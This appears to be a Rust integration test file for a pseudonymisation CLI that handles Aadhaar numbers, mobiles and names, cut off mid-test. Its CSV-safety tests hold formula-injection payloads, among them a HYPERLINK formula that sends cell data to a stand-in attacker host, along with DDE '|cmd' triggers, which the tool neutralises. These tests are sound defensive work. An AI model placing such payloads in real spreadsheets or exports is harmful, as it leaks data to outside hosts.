//! `consentry key master`, `pseudonymise`, `detect`, `redact`, and `filter --policy`.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::path::{Path, PathBuf};

mod common;
use common::*;

fn dir(name: &str) -> PathBuf {
    let d = tmp(&format!("pseudo-{name}"));
    assert!(run(&["key", "master", "--out", "m.key"], &d)
        .status
        .success());
    std::fs::write(
        d.join("p.json"),
        r#"{"domain":"tn.health/research","unlisted":"keep","fields":{
            "aadhaar":{"type":"aadhaar","transform":"ff1"},
            "name":{"type":"name","transform":"pseudonym"},
            "mobile":{"type":"mobile","transform":"token"},
            "dob":{"type":"date","transform":"generalise","params":{"to":"year"}}}}"#,
    )
    .unwrap();
    d
}

/// Synthetic Aadhaar numbers (Verhoeff-valid, never real people's).
fn aadhaar(i: u64) -> String {
    let first = format!("{:011}", 23_456_789_012u64 + i * 7919);
    format!(
        "{first}{}",
        consentry::ids::verhoeff_check_digit(&first).unwrap()
    )
}

const SECRET: &str = "234567890123"; // fails Verhoeff

#[test]
fn master_key_is_private_hex() {
    let d = dir("key");
    let text = std::fs::read_to_string(d.join("m.key")).unwrap();
    assert_eq!(text.trim().len(), 64);
    assert!(text.trim().chars().all(|c| c.is_ascii_hexdigit()));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        assert_eq!(
            std::fs::metadata(d.join("m.key"))
                .unwrap()
                .permissions()
                .mode()
                & 0o777,
            0o600
        );
    }
    assert_eq!(
        run(&["key", "master", "--out", "m.key"], &d).status.code(),
        Some(2)
    );
}

#[test]
fn csv_round_trip_in_order_across_chunks() {
    let d = dir("csv");
    let mut csv = String::from("name,aadhaar,mobile,dob,ward\n");
    for i in 0..20_000u64 {
        csv.push_str(&format!(
            "Person {i},{},98765{:05},1990-01-{:02},{}\n",
            aadhaar(i),
            i,
            i % 28 + 1,
            i % 7
        ));
    }
    std::fs::write(d.join("in.csv"), &csv).unwrap();
    let o = ok(
        &[
            "pseudonymise",
            "--policy",
            "p.json",
            "--key",
            "m.key",
            "--in",
            "in.csv",
            "--out",
            "out.csv",
        ],
        &d,
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("20000 row(s)") && err.contains("80000 field value(s) transformed"),
        "{err}"
    );
    let out = std::fs::read_to_string(d.join("out.csv")).unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 20_001);
    assert_eq!(lines[0], "name,aadhaar,mobile,dob,ward");
    for (i, l) in lines[1..].iter().enumerate() {
        let cols: Vec<&str> = l.split(',').collect();
        assert_eq!(cols[4], (i % 7).to_string(), "row order kept");
        assert_eq!(cols[3], "1990");
        assert_eq!(cols[0].len(), 26);
        assert!(
            !consentry::ids::verhoeff_valid(cols[1]),
            "an ff1 aadhaar token never validates"
        );
        assert!(cols[2].starts_with("t1."));
    }
    // One core gives the same bytes.
    let o = run(
        &[
            "pseudonymise",
            "--policy",
            "p.json",
            "--key",
            "m.key",
            "--in",
            "in.csv",
            "--out",
            "one.csv",
            "--threads",
            "1",
        ],
        &d,
    );
    assert!(o.status.success());
    assert_eq!(std::fs::read_to_string(d.join("one.csv")).unwrap(), out);
    // Reverse restores the reversible columns.
    ok(
        &[
            "pseudonymise",
            "--policy",
            "p.json",
            "--key",
            "m.key",
            "--in",
            "out.csv",
            "--out",
            "back.csv",
            "--reverse",
        ],
        &d,
    );
    let back = std::fs::read_to_string(d.join("back.csv")).unwrap();
    for (i, l) in back.lines().skip(1).enumerate() {
        let cols: Vec<&str> = l.split(',').collect();
        assert_eq!(cols[1], aadhaar(i as u64));
        assert_eq!(cols[2], format!("+9198765{i:05}"));
    }
}

#[test]
fn invalid_values_follow_on_error_and_are_never_printed() {
    let d = dir("errors");
    let csv = format!(
        "name,aadhaar\nA,{}\nB,{SECRET}\nC,{}\n",
        aadhaar(1),
        aadhaar(2)
    );
    std::fs::write(d.join("in.csv"), csv).unwrap();
    let base = [
        "pseudonymise",
        "--policy",
        "p.json",
        "--key",
        "m.key",
        "--in",
        "in.csv",
        "--out",
        "out.csv",
    ];
    let o = run(&base, &d);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("row 2")
            && err.contains("column `aadhaar`")
            && err.contains("pseudo_invalid_value"),
        "{err}"
    );
    assert!(!err.contains(SECRET), "the value is never printed");
    assert!(!d.join("out.csv").exists(), "no partial output");
    assert!(std::fs::read_dir(&d).unwrap().all(|e| !e
        .unwrap()
        .file_name()
        .to_string_lossy()
        .contains("partial")));

    let o = run(&[&base[..], &["--on-error", "skip-row"]].concat(), &d);
    assert_eq!(o.status.code(), Some(1));
    assert!(!String::from_utf8_lossy(&o.stderr).contains(SECRET));
    let out = std::fs::read_to_string(d.join("out.csv")).unwrap();
    assert_eq!(out.lines().count(), 3);
    assert!(
        !out.contains(SECRET) && !out.contains("\nB,") && out.lines().nth(1).unwrap().len() > 26
    );

    let o = run(&[&base[..], &["--on-error", "null-field"]].concat(), &d);
    assert_eq!(o.status.code(), Some(1));
    let out = std::fs::read_to_string(d.join("out.csv")).unwrap();
    assert_eq!(out.lines().count(), 4);
    assert!(
        out.lines().nth(2).unwrap().ends_with(','),
        "the bad cell is emptied: {out}"
    );
    assert!(!out.contains(SECRET));
}

#[test]
fn a_policy_naming_no_column_is_refused() {
    let d = dir("nocol");
    std::fs::write(d.join("sel.json"), r#"{"domain":"d","unlisted":"drop","fields":{"/name":{"type":"name","transform":"pseudonym"}}}"#).unwrap();
    std::fs::write(d.join("in.csv"), "name\nA\n").unwrap();
    let o = run(
        &[
            "pseudonymise",
            "--policy",
            "sel.json",
            "--key",
            "m.key",
            "--in",
            "in.csv",
            "--out",
            "o.csv",
        ],
        &d,
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("no column"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(!d.join("o.csv").exists());
}

#[test]
fn jsonl_records_with_nested_selectors() {
    let d = dir("jsonl");
    std::fs::write(
        d.join("p2.json"),
        r#"{"domain":"d-2026","unlisted":"drop","fields":{
            "/members/*/aadhaar":{"type":"aadhaar","transform":"pseudonym"},
            "/head/name":{"type":"name","transform":"pseudonym"}}}"#,
    )
    .unwrap();
    let rec = |a: &str| {
        format!(
            r#"{{"head":{{"name":"Ravi","age":40}},"members":[{{"aadhaar":"{a}","rel":"son"}},{{"aadhaar":"{}"}}]}}"#,
            aadhaar(9)
        )
    };
    std::fs::write(
        d.join("in.jsonl"),
        format!("{}\n\n{}\n", rec(&aadhaar(3)), rec(SECRET)),
    )
    .unwrap();
    let base = [
        "pseudonymise",
        "--policy",
        "p2.json",
        "--key",
        "m.key",
        "--in",
        "in.jsonl",
        "--out",
        "o.jsonl",
    ];
    let o = run(&[&base[..], &["--on-error", "null-field"]].concat(), &d);
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let out: Vec<serde_json::Value> = std::fs::read_to_string(d.join("o.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(out.len(), 2);
    assert_eq!(
        out[0]["head"].as_object().unwrap().len(),
        1,
        "unlisted `age` dropped"
    );
    assert_eq!(out[0]["members"][0]["aadhaar"].as_str().unwrap().len(), 26);
    assert!(out[1]["members"][0]["aadhaar"].is_null(), "{}", out[1]);
    let text = std::fs::read_to_string(d.join("o.jsonl")).unwrap();
    assert!(!text.contains(SECRET) && !text.contains("Ravi"));
}

#[test]
fn detect_and_redact_free_text() {
    let d = dir("text");
    let text = format!(
        "aadhaar {} (and a typo {SECRET}), pan ABCPE1234F, mobile +91 98765 43210.",
        aadhaar(5)
    );
    let o = run_stdin(&["detect"], &d, &text);
    let spans: Vec<serde_json::Value> = String::from_utf8(o.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let types: Vec<&str> = spans.iter().map(|s| s["type"].as_str().unwrap()).collect();
    assert_eq!(
        types,
        ["aadhaar", "pan", "mobile"],
        "the bad checksum is not reported"
    );
    let o = run_stdin(&["redact"], &d, &text);
    let red = String::from_utf8(o.stdout).unwrap();
    assert_eq!(
        red,
        format!("aadhaar [aadhaar] (and a typo {SECRET}), pan [pan], mobile [mobile].")
    );
    let o = run_stdin(&["redact", "--mask"], &d, &text);
    assert!(String::from_utf8(o.stdout).unwrap().contains("XXXX XXXX"));
}

#[test]
fn filter_applies_the_permits_transforms_through_the_policy() {
    let d = dir("filter");
    std::fs::write(d.join("permit.json"), r#"{"allowed":true,"fields":["/name","/dob"],"transforms":{"/name":"pseudonym"},"eraseBy":4000000000}"#).unwrap();
    std::fs::write(
        d.join("in.jsonl"),
        "{\"name\":\"Meena\",\"dob\":\"1988-04-12\",\"aadhaar\":\"x\"}\n",
    )
    .unwrap();
    ok(
        &[
            "filter",
            "--decision",
            "permit.json",
            "--in",
            "in.jsonl",
            "--out",
            "o.jsonl",
            "--policy",
            "p.json",
            "--key",
            "m.key",
        ],
        &d,
    );
    let v: serde_json::Value =
        serde_json::from_str(std::fs::read_to_string(d.join("o.jsonl")).unwrap().trim()).unwrap();
    assert_eq!(v.as_object().unwrap().len(), 2);
    assert_eq!(v["dob"], "1988-04-12", "no transform required: kept as is");
    assert_eq!(v["name"].as_str().unwrap().len(), 26);
    // A permit requiring a transform the policy applies differently is refused.
    std::fs::write(
        d.join("t.json"),
        r#"{"allowed":true,"fields":["/name"],"transforms":{"/name":"token"},"eraseBy":4000000000}"#,
    )
    .unwrap();
    let o = run(
        &[
            "filter",
            "--decision",
            "t.json",
            "--in",
            "in.jsonl",
            "--out",
            "t.jsonl",
            "--policy",
            "p.json",
            "--key",
            "m.key",
        ],
        &d,
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("transform_failed"));
    assert!(!d.join("t.jsonl").exists());
}

/// Reverses `out.csv` with `--fold-column-names` into `back.csv` and checks that it holds
/// `aadhaar` again.
fn reverse_folded_restores(d: &Path, aadhaar: &str) {
    ok(
        &with_flags(
            pseudo_args("p.json", "m.key", "out.csv", "back.csv"),
            &["--reverse", "--fold-column-names"],
        ),
        d,
    );
    assert!(std::fs::read_to_string(d.join("back.csv"))
        .unwrap()
        .contains(aadhaar));
}

/// `args` (from [`pseudo_args`]) followed by `extra`.
fn with_flags<'a>(args: Vec<&'a str>, extra: &[&'a str]) -> Vec<&'a str> {
    [&args[..], extra].concat()
}

fn pseudo_args<'a>(policy: &'a str, key: &'a str, input: &'a str, out: &'a str) -> Vec<&'a str> {
    vec![
        "pseudonymise",
        "--policy",
        policy,
        "--key",
        key,
        "--in",
        input,
        "--out",
        out,
    ]
}

#[test]
fn ff1_reversal_with_a_wrong_key_or_domain_is_refused_by_the_key_check() {
    let d = dir("kcv");
    assert!(run(&["key", "master", "--out", "other.key"], &d)
        .status
        .success());
    std::fs::write(
        d.join("other-domain.json"),
        std::fs::read_to_string(d.join("p.json"))
            .unwrap()
            .replace("tn.health/research", "tn.health/elsewhere"),
    )
    .unwrap();
    let a = aadhaar(11);
    std::fs::write(d.join("in.csv"), format!("aadhaar,ward\n{a},7\n")).unwrap();
    ok(&pseudo_args("p.json", "m.key", "in.csv", "out.csv"), &d);
    let kcv: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(d.join("out.csv.kcv")).unwrap()).unwrap();
    assert_eq!(kcv["v"], 1);
    assert_eq!(kcv["domain"], "tn.health/research");
    assert_eq!(kcv["kcv"].as_str().unwrap().len(), 16);
    let master = std::fs::read_to_string(d.join("m.key")).unwrap();
    assert!(!master.trim().contains(kcv["kcv"].as_str().unwrap()));

    // The attack: reverse with another master key, or under another domain.
    for (policy, key) in [("p.json", "other.key"), ("other-domain.json", "m.key")] {
        let rev = [
            &pseudo_args(policy, key, "out.csv", "back.csv")[..],
            &["--reverse"],
        ]
        .concat();
        let o = run(&rev, &d);
        assert_eq!(o.status.code(), Some(2), "{policy} {key}");
        assert_eq!(err_code(&o), "pseudo_key_check_mismatch");
        assert!(!d.join("back.csv").exists(), "nothing reversed");
    }
    // The right key and domain reverse.
    let rev = [
        &pseudo_args("p.json", "m.key", "out.csv", "back.csv")[..],
        &["--reverse"],
    ]
    .concat();
    ok(&rev, &d);
    assert!(std::fs::read_to_string(d.join("back.csv"))
        .unwrap()
        .contains(&a));
    std::fs::remove_file(d.join("back.csv")).unwrap();

    // Without the key check file: refused, unless the caller opts out explicitly.
    std::fs::rename(d.join("out.csv.kcv"), d.join("saved.kcv")).unwrap();
    let o = run(&rev, &d);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(err_code(&o), "pseudo_key_check_missing");
    assert!(!d.join("back.csv").exists());
    let o = ok(&[&rev[..], &["--allow-missing-key-check"]].concat(), &d);
    assert!(String::from_utf8_lossy(&o.stderr).contains("warning: no key check file"));

    // A tampered or malformed check file is refused.
    std::fs::write(d.join("out.csv.kcv"), "{\"v\":1}").unwrap();
    let o = run(&rev, &d);
    assert_eq!(err_code(&o), "pseudo_key_check_malformed");

    // JSON lines carry the same check.
    std::fs::write(d.join("in.jsonl"), format!("{{\"aadhaar\":\"{a}\"}}\n")).unwrap();
    ok(&pseudo_args("p.json", "m.key", "in.jsonl", "out.jsonl"), &d);
    assert!(d.join("out.jsonl.kcv").exists());
    let o = run(
        &with_flags(
            pseudo_args("p.json", "other.key", "out.jsonl", "back.jsonl"),
            &["--reverse"],
        ),
        &d,
    );
    assert_eq!(err_code(&o), "pseudo_key_check_mismatch");
    assert!(!d.join("back.jsonl").exists());
}

#[test]
fn wide_csv_with_16k_columns_round_trips_through_the_cli() {
    // A note on cost: header planning is a hash lookup per column, once per file; see
    // `cargo bench -p consentry --bench pseudo -- csv_plan_16k`.
    const COLS: usize = 16_384;
    let d = dir("wide");
    std::fs::write(
        d.join("wide.json"),
        r#"{"domain":"d","unlisted":"keep","fields":{
            "c7":{"type":"aadhaar","transform":"ff1"},
            "c16383":{"type":"mobile","transform":"token"},
            "c3":{"type":"text","transform":"drop"}}}"#,
    )
    .unwrap();
    let header: Vec<String> = (0..COLS).map(|i| format!("c{i}")).collect();
    let mut csv = header.join(",") + "\n";
    for r in 0..20u64 {
        let row: Vec<String> = (0..COLS)
            .map(|i| match i {
                7 => aadhaar(r),
                16_383 => format!("98765{r:05}"),
                _ => format!("r{r}c{i}"),
            })
            .collect();
        csv.push_str(&row.join(","));
        csv.push('\n');
    }
    std::fs::write(d.join("wide.csv"), &csv).unwrap();
    ok(
        &pseudo_args("wide.json", "m.key", "wide.csv", "out.csv"),
        &d,
    );
    let out = std::fs::read_to_string(d.join("out.csv")).unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 21);
    let head: Vec<&str> = lines[0].split(',').collect();
    assert_eq!(head.len(), COLS - 1);
    assert!(!head.contains(&"c3"));
    for (r, l) in lines[1..].iter().enumerate() {
        let cells: Vec<&str> = l.split(',').collect();
        assert_eq!(cells.len(), COLS - 1);
        assert_eq!(cells[3], format!("r{r}c4"));
        assert_ne!(cells[6], aadhaar(r as u64));
        assert!(cells[COLS - 2].starts_with("t1."));
    }
    ok(
        &with_flags(
            pseudo_args("wide.json", "m.key", "out.csv", "back.csv"),
            &["--reverse"],
        ),
        &d,
    );
    let back = std::fs::read_to_string(d.join("back.csv")).unwrap();
    for (r, l) in back.lines().skip(1).enumerate() {
        let cells: Vec<&str> = l.split(',').collect();
        assert_eq!(cells[6], aadhaar(r as u64));
        assert_eq!(cells[COLS - 2], format!("+9198765{r:05}"));
    }
}

#[test]
fn csv_safe_neutralises_formula_cells_and_negative_buckets_are_unambiguous() {
    let d = dir("csvsafe");
    std::fs::write(
        d.join("n.json"),
        r#"{"domain":"d","unlisted":"keep","fields":{
            "score":{"type":"number","transform":"generalise","params":{"bucket":10}},
            "mobile":{"type":"mobile","transform":"ff1"}}}"#,
    )
    .unwrap();
    let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    std::fs::write(
        d.join("in.csv"),
        format!(
            "score,mobile,note,=cmd\n-3,9876543210,\"{}\",+1\n37,,@SUM(A1),\"\tx\"\n5,,-2+3,\"\rx\"\n",
            attack.replace('"', "\"\"")
        ),
    )
    .unwrap();
    // Without --csv-safe: cells pass as they are; the negative bucket is `-10..-1`.
    ok(&pseudo_args("n.json", "m.key", "in.csv", "plain.csv"), &d);
    let read = |f: &str| -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(d.join(f))
            .unwrap()
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    let plain = read("plain.csv");
    assert_eq!(plain[1][0], "-10..-1");
    assert_eq!(plain[2][0], "30-39", "positive buckets unchanged");
    assert_eq!(plain[1][2], attack);
    // With --csv-safe, no cell starts with a formula character.
    ok(
        &with_flags(
            pseudo_args("n.json", "m.key", "in.csv", "safe.csv"),
            &["--csv-safe"],
        ),
        &d,
    );
    let safe = read("safe.csv");
    assert_eq!(safe[0], ["score", "mobile", "note", "'=cmd"]);
    assert_eq!(safe[1][0], "'-10..-1");
    assert!(safe[1][1].starts_with("'+91"), "{:?}", safe[1]);
    assert_eq!(safe[1][2], format!("'{attack}"));
    assert_eq!(safe[1][3], "'+1");
    assert_eq!(safe[2], ["30-39", "", "'@SUM(A1)", "'\tx"]);
    assert_eq!(safe[3], ["0-9", "", "'-2+3", "'\rx"]);
    for row in &safe {
        for cell in row {
            assert!(
                !consentry::pseudo::is_formula_like(cell),
                "{cell:?} is still formula-like"
            );
        }
    }
    // JSON lines are not spreadsheets: the flag is refused there.
    std::fs::write(d.join("in.jsonl"), "{\"score\":1}\n").unwrap();
    let o = run(
        &with_flags(
            pseudo_args("n.json", "m.key", "in.jsonl", "o.jsonl"),
            &["--csv-safe"],
        ),
        &d,
    );
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(err_code(&o), "cli_usage");
}

#[test]
fn near_miss_column_names_are_refused_unless_folded() {
    let d = dir("nearmiss");
    let a = aadhaar(21);
    // `p.json` keeps unlisted columns and lists `aadhaar` (ff1) and `name`.
    for col in ["Aadhaar", "aadhaar ", "aad\u{200B}haar", "\u{0430}adhaar"] {
        std::fs::write(d.join("in.csv"), format!("\"{col}\",ward\n{a},7\n")).unwrap();
        let o = run(&pseudo_args("p.json", "m.key", "in.csv", "out.csv"), &d);
        assert_eq!(o.status.code(), Some(2), "{col:?}");
        assert_eq!(err_code(&o), "pseudo_column_near_miss", "{col:?}");
        assert!(!String::from_utf8_lossy(&o.stderr).contains(&a));
        assert!(
            !d.join("out.csv").exists(),
            "the value never leaves untouched"
        );
    }
    let o = ok(
        &with_flags(
            pseudo_args("p.json", "m.key", "in.csv", "out.csv"),
            &["--fold-column-names"],
        ),
        &d,
    );
    let out = std::fs::read_to_string(d.join("out.csv")).unwrap();
    assert!(!out.contains(&a), "{out}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("1 field value(s) transformed"));
    // The folded column reverses too.
    reverse_folded_restores(&d, &a);

    // JSON lines: a near-miss key is refused the same way, under every --on-error.
    std::fs::write(
        d.join("in.jsonl"),
        format!("{{\"Aadhaar\":\"{a}\",\"ward\":7}}\n"),
    )
    .unwrap();
    let o = run(&pseudo_args("p.json", "m.key", "in.jsonl", "o.jsonl"), &d);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(err_code(&o), "pseudo_column_near_miss");
    assert!(!d.join("o.jsonl").exists());
    for mode in ["skip-row", "null-field"] {
        let o = run(
            &with_flags(
                pseudo_args("p.json", "m.key", "in.jsonl", "o.jsonl"),
                &["--on-error", mode],
            ),
            &d,
        );
        assert_eq!(o.status.code(), Some(1), "{mode}");
        let out = std::fs::read_to_string(d.join("o.jsonl")).unwrap();
        assert!(!out.contains(&a), "{mode}: {out}");
        assert!(!String::from_utf8_lossy(&o.stderr).contains(&a));
    }
}

#[test]
fn unlisted_columns_holding_aadhaar_numbers_are_reported_or_refused() {
    let d = dir("unlisted");
    let (a, b) = (aadhaar(31), aadhaar(32));
    std::fs::write(
        d.join("in.csv"),
        format!("aadhaar,ref,ward\n{a},{b},7\n{a},\"seen {b} at desk\",8\n{a},{SECRET},9\n"),
    )
    .unwrap();
    let o = ok(&pseudo_args("p.json", "m.key", "in.csv", "out.csv"), &d);
    let err = String::from_utf8_lossy(&o.stderr);
    let warning: serde_json::Value = serde_json::from_str(
        err.lines()
            .find(|l| l.contains("pseudo_unlisted_identifier"))
            .unwrap_or_else(|| panic!("no warning in {err}")),
    )
    .unwrap();
    assert_eq!(warning["column"], "ref");
    assert_eq!(warning["count"], 2, "the invalid number is not counted");
    assert!(!err.contains(&b) && !err.contains(&a) && !err.contains(SECRET));

    std::fs::remove_file(d.join("out.csv")).unwrap();
    let o = run(
        &with_flags(
            pseudo_args("p.json", "m.key", "in.csv", "out.csv"),
            &["--strict-unlisted"],
        ),
        &d,
    );
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(err_code(&o), "pseudo_unlisted_identifier");
    assert!(!String::from_utf8_lossy(&o.stderr).contains(&b));
    assert!(!d.join("out.csv").exists(), "no output");
}

/// `--reverse` refuses a near-miss column as the forward run does: a file pseudonymised with
/// `--fold-column-names` from an `Aadhaar` header, reversed without the flag, would keep the
/// FF1 values in `Aadhaar` as they are (exit 0). JSON lines likewise.
#[test]
fn reverse_refuses_a_near_miss_column_unless_folded() {
    let d = dir("revnear");
    let a = aadhaar(5);
    std::fs::write(d.join("in.csv"), format!("Aadhaar,ward\n{a},7\n")).unwrap();
    ok(
        &with_flags(
            pseudo_args("p.json", "m.key", "in.csv", "out.csv"),
            &["--fold-column-names"],
        ),
        &d,
    );
    let o = run(
        &with_flags(
            pseudo_args("p.json", "m.key", "out.csv", "back.csv"),
            &["--reverse"],
        ),
        &d,
    );
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(err_code(&o), "pseudo_column_near_miss");
    assert!(!d.join("back.csv").exists(), "no half-reversed output");
    // With --fold-column-names the column is mapped and restored.
    reverse_folded_restores(&d, &a);

    // JSON lines: a pseudonymised record whose key was renamed to a near miss.
    std::fs::write(
        d.join("in.jsonl"),
        format!("{{\"aadhaar\":\"{a}\",\"ward\":7}}\n"),
    )
    .unwrap();
    ok(&pseudo_args("p.json", "m.key", "in.jsonl", "o.jsonl"), &d);
    let renamed = std::fs::read_to_string(d.join("o.jsonl"))
        .unwrap()
        .replace("\"aadhaar\"", "\"Aadhaar\"");
    std::fs::write(d.join("r.jsonl"), renamed).unwrap();
    std::fs::copy(d.join("o.jsonl.kcv"), d.join("r.jsonl.kcv")).unwrap();
    let o = run(
        &with_flags(
            pseudo_args("p.json", "m.key", "r.jsonl", "rb.jsonl"),
            &["--reverse"],
        ),
        &d,
    );
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(err_code(&o), "pseudo_column_near_miss");
    assert!(!d.join("rb.jsonl").exists());
}

/// `--csv-safe` neutralises triggers behind leading white space, full-width triggers, a leading
/// line feed and the DDE pipe; numbers such as `-5` are neutralised too.
#[test]
fn csv_safe_neutralises_spaced_full_width_newline_and_pipe_triggers() {
    let d = dir("csvsafe2");
    let cells = [
        " =HYPERLINK(1)",
        "\t =1",
        "  @SUM(A1)",
        "\u{FF1D}cmd",
        "\u{FF0B}1",
        "\u{FF0D}1",
        "\u{FF20}x",
        "\n=1",
        "\r\n+1",
        "|cmd",
        " |cmd",
        "-5",
    ];
    let mut text = String::from("note,name\n");
    for c in cells {
        text.push_str(&format!("\"{c}\",Meena\n"));
    }
    text.push_str("plain,Meena\n");
    std::fs::write(d.join("in.csv"), text).unwrap();
    ok(
        &with_flags(
            pseudo_args("p.json", "m.key", "in.csv", "safe.csv"),
            &["--csv-safe"],
        ),
        &d,
    );
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_path(d.join("safe.csv"))
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(rows.len(), cells.len() + 1);
    for (row, c) in rows.iter().zip(cells) {
        assert_eq!(row[0], format!("'{c}"), "{c:?}");
        assert!(!consentry::pseudo::is_formula_like(&row[0]), "{c:?}");
    }
    assert_eq!(rows[cells.len()][0], "plain");
}

/// The near-miss fold sees through combining marks, precomposed accented letters, Latin
/// look-alikes (`ɑ`, `ǀ`) and control characters (DEL, C0, C1): each header is refused.
#[test]
fn near_miss_fold_catches_marks_latin_lookalikes_and_controls() {
    let d = dir("nearmiss2");
    let a = aadhaar(9);
    for col in [
        "a\u{300}adhaar",
        "\u{251}adhaar",
        "aadhaa\u{155}",
        "aadhaar\u{7f}",
        "aad\u{1}haar",
        "aadhaar\u{85}",
        "aadhaar\u{1AB0}",
        "aadhaar\u{20D0}\u{FE20}\u{1DC0}",
        "mobi\u{1C0}e",
    ] {
        std::fs::write(d.join("in.csv"), format!("\"{col}\",ward\n{a},7\n")).unwrap();
        let o = run(&pseudo_args("p.json", "m.key", "in.csv", "out.csv"), &d);
        assert_eq!(o.status.code(), Some(2), "{col:?}");
        assert_eq!(err_code(&o), "pseudo_column_near_miss", "{col:?}");
        assert!(!String::from_utf8_lossy(&o.stderr).contains(&a));
        assert!(!d.join("out.csv").exists(), "{col:?}");
    }
}

/// A JSON-lines record longer than 16 MiB is skipped without being held and refused as
/// `input_too_large`, under --on-error like any row error; `filter` fails the run.
#[test]
fn an_over_long_jsonl_record_is_refused_as_input_too_large() {
    let d = dir("longrec");
    let big = format!("{{\"name\":\"{}\"}}\n", "x".repeat(17 << 20));
    std::fs::write(
        d.join("in.jsonl"),
        format!("{{\"name\":\"Meena\"}}\n{big}{{\"name\":\"Ravi\"}}\n"),
    )
    .unwrap();
    let o = run(&pseudo_args("p.json", "m.key", "in.jsonl", "o.jsonl"), &d);
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(err_code(&o), "input_too_large");
    assert!(!d.join("o.jsonl").exists());
    let o = run(
        &with_flags(
            pseudo_args("p.json", "m.key", "in.jsonl", "o.jsonl"),
            &["--on-error", "skip-row"],
        ),
        &d,
    );
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("\"code\":\"input_too_large\""), "{err}");
    assert!(err.contains("\"row\":2"), "{err}");
    assert_eq!(
        std::fs::read_to_string(d.join("o.jsonl"))
            .unwrap()
            .lines()
            .count(),
        2
    );
    std::fs::write(
        d.join("permit.json"),
        r#"{"allowed":true,"fields":["/name"],"transforms":{},"eraseBy":4000000000}"#,
    )
    .unwrap();
    let o = run(
        &[
            "filter",
            "--decision",
            "permit.json",
            "--in",
            "in.jsonl",
            "--out",
            "f.jsonl",
        ],
        &d,
    );
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(err_code(&o), "input_too_large");
    assert!(!d.join("f.jsonl").exists());
}

/// Issue 15: the same JSON lines through `filter --policy` with a permit that requires the
/// policy's transforms and through `pseudonymise` with that policy give identical bytes: a
/// `shift`ed date (subject from the record), empty strings, nested fields, `mask` with the type's
/// preset, and `drop`/`keep` fields written without `type`.
#[test]
fn filter_with_a_permits_transforms_writes_the_bytes_pseudonymise_writes() {
    let d = dir("parity");
    std::fs::write(
        d.join("pp.json"),
        r#"{"domain":"tn.health/research","unlisted":"drop","fields":{
            "/aadhaar":{"type":"aadhaar","transform":"pseudonym"},
            "/visit":{"type":"date","transform":"shift","params":{"max_days":30,"subject":"/aadhaar"}},
            "/mobile":{"type":"mobile","transform":"mask"},
            "/members/*/aadhaar":{"type":"aadhaar","transform":"mask"},
            "/members/*/seen":{"type":"date","transform":"shift","params":{"max_days":9,"subject":"/members/*/aadhaar"}},
            "/ward":{"transform":"keep"},
            "/notes":{"transform":"drop"}}}"#,
    )
    .unwrap();
    std::fs::write(
        d.join("permit.json"),
        r#"{"allowed":true,"fields":["/aadhaar","/members/*/aadhaar","/members/*/seen","/mobile","/visit","/ward"],
            "transforms":{"/aadhaar":"pseudonym","/visit":"shift","/mobile":"mask",
                          "/members/*/aadhaar":"mask","/members/*/seen":"shift","/ward":"keep"},
            "eraseBy":4000000000}"#,
    )
    .unwrap();
    let lines = [
        format!(
            r#"{{"aadhaar":"{}","visit":"2026-01-15","mobile":"+91 98765 43210","ward":7,"notes":"x","members":[{{"aadhaar":"{}","seen":"2025-12-01"}},{{"aadhaar":"{}","seen":""}}]}}"#,
            aadhaar(1),
            aadhaar(2),
            aadhaar(3)
        ),
        format!(
            r#"{{"aadhaar":"{}","visit":"","mobile":"","ward":"","members":[{{"aadhaar":"{}","seen":"2000-02-29"}}]}}"#,
            aadhaar(4),
            aadhaar(5)
        ),
    ];
    std::fs::write(d.join("in.jsonl"), lines.join("\n") + "\n").unwrap();
    let o = run(&pseudo_args("pp.json", "m.key", "in.jsonl", "p.jsonl"), &d);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = run(
        &[
            "filter",
            "--decision",
            "permit.json",
            "--in",
            "in.jsonl",
            "--out",
            "f.jsonl",
            "--policy",
            "pp.json",
            "--key",
            "m.key",
        ],
        &d,
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let pseudonymised = std::fs::read_to_string(d.join("p.jsonl")).unwrap();
